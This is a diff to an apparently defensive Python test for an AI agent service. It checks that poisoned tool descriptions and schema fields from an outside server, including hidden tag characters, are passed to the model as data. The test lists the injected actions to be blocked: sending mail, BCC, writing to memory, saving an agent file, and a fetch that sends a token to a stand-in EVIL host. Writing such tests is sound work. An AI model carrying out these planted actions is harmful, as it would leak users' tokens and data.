@@ -32,7 +32,8 @@ async def test_what_a_server_says_is_data_in_descriptions_and_answers(
     tmp_path: Path, tmp_path_factory: pytest.TempPathFactory, wall: VirtualClock, log: RecordedLog
 ) -> None:
     odd = Odd(tmp_path_factory.mktemp("odd") / "odd.json")
-    odd.is_(tools=[{**ECHO, "description": POISON}])
+    takes = {"type": "object", "properties": {"text": {"type": "string", "description": f"What{TAGS}"}}}
+    odd.is_(tools=[{**ECHO, "description": POISON, "inputSchema": takes}])
     network = NoNetwork()
     async with open_service(tmp_path, clock=wall, log=log, PROVIDERS="fake") as service:
         service.workspace.service(Outside).pinned = PinnedEgress(network=network)
@@ -44,6 +45,9 @@ async def test_what_a_server_says_is_data_in_descriptions_and_answers(
         before = await pages(service)
         await obeys(service, None, [SEND, BCC, MEMORY, fetch(f"{EVIL}TOKEN"), save("agents/x")])
         assert odd.calls() == []
+        (told, *_) = await service.query("fake.llm.calls")
+        assert "What" in str(told["tools"])
+        assert "\\U" not in str(told["tools"]), "the model reads what the person saw"
         for number, (said, obeyed) in enumerate(SAID, 1):
             await obeys(service, said, obeyed)
             assert len(odd.calls()) == number, "the one that was let through, and no other"
